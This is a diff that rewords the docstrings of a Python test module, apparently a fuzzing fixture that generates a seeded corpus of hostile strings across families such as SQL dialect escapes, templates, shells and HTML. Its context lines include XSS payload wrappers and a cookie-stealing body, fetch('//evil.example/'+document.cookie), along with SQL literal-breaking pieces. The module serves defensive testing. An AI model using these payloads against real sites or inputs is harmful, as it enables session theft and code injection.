@@ -1,4 +1,4 @@
-"""Three thousand hostile strings from a dozen families, the same every time: the things people attack programs with."""
+"""Three thousand hostile strings from a dozen families of attacks on programs. They are the same every time."""
 
 from __future__ import annotations
 
@@ -13,7 +13,7 @@ SEED: Final = 20_260_101
 AT_LEAST: Final = 3_000
 
 CANARY: Final = "canary-8f2c41"
-"""In the environment, a file and a table of the tests; no answer may contain it, and nothing may change it."""
+"""A word in the environment, a file and a table of the tests. No answer may contain it, and nothing may change it."""
 
 CANARY_TABLE: Final = "canary"
 CANARY_FILE: Final = "canary.txt"
@@ -21,7 +21,10 @@ CANARY_NAME: Final = "SAMEPAGE_TEST_CANARY"
 
 
 def hostile_strings() -> tuple[str, ...]:
-    """All of them, each once. Long ones are next to their family, and some have half a surrogate pair."""
+    """Return all hostile strings, each once.
+
+    Long ones are next to their family, and some have half a surrogate pair.
+    """
     chance = random.Random(SEED)
     families = (
         *(quotes(), statements(), comments(), dialects(), placeholders(), templates(), pages(), yaml_texts()),
@@ -32,7 +35,7 @@ def hostile_strings() -> tuple[str, ...]:
 
 
 def sample(count: int, *, longest: int = 4_000) -> tuple[str, ...]:
-    """Some of every family, no longer than `longest`: for places where each attempt takes time."""
+    """Return some strings of every family, none longer than `longest`, for tests in which each attempt takes time."""
     fitting = [text for text in STRINGS if len(text) <= longest]
     return tuple(random.Random(SEED).sample(fitting, count))
 
@@ -72,7 +75,7 @@ def comments() -> Iterator[str]:
 
 
 def dialects() -> Iterator[str]:
-    """Strings that one engine reads as the end of a literal, or as a statement, and others don't."""
+    """Yield strings that one engine reads as the end of a literal or as a statement, and others don't."""
     pieces = [
         *("\\047", "\\x27", "\\u0027", "\\'", "E'\\''", "N'x'", "x'27'", "0x27", "b'x'", "r'x'", 'R"(x)"', "q'[x]'"),
         *("U&'\\0027'", "CHR(39)", "CHAR(39)", "$1", ":1", "?", "%s", "@x", "@@version", "{x:String}", "$${x}$$"),
@@ -111,7 +114,7 @@ def templates() -> Iterator[str]:
 
 
 def pages() -> Iterator[str]:
-    """HTML, scripts, Markdown and Streamlit's extensions to it."""
+    """Yield HTML, scripts, Markdown, and Streamlit's extensions to Markdown."""
     bodies = ["alert(1)", "window.pwned=1", "fetch('//evil.example/'+document.cookie)"]
     ways = [
         *("<script>{}</script>", "<img src=x onerror={}>", "<svg/onload={}>", "<iframe srcdoc='<script>{}</script>'>"),
@@ -278,7 +281,7 @@ def shells() -> Iterator[str]:
 
 
 def codecs() -> Iterator[str]:
-    """The syntax of a question's own JSON and address."""
+    """Yield text with the syntax of a question's JSON and address."""
     yield from (
         '{"v":1}', "{}", "[]", "null", '""', '{"metrics":[]}', '{"metrics":["a"],"metrics":["b"]}', '{"v":1e5}',
         '{"v":NaN}',
@@ -302,7 +305,9 @@ def codecs() -> Iterator[str]:
 
 
 def mixed(plain: Sequence[str], chance: random.Random) -> Iterator[str]:
-    """Pieces of two families joined, and single letters swapped: things that no list of known attacks has."""
+    """Yield pieces of two families joined together, or with single letters swapped, which no list of known
+    attacks has.
+    """
     short = [text for text in plain if 0 < len(text) <= 60]
     for _ in range(700):
         first, other = chance.choice(short), chance.choice(short)
